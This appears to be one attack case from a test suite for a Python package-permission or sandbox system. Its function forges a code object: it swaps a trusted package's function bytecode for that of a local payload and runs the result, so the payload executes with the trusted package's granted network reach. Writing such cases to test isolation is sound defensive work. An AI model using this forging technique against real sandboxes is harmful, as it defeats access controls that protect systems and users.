"""code.replace: own bytecode in a granted package's code."""
CATEGORY = "forging"
REACH = "net"

from types import FunctionType

from . import payload


def attack():
    import good
    own = payload.act.__code__
    code = good.fire.__code__.replace(
        co_code=own.co_code, co_consts=own.co_consts,
        co_names=own.co_names, co_varnames=own.co_varnames,
        co_nlocals=own.co_nlocals, co_stacksize=own.co_stacksize,
        co_flags=own.co_flags, co_exceptiontable=own.co_exceptiontable,
        co_linetable=own.co_linetable)
    FunctionType(code, vars(payload))()
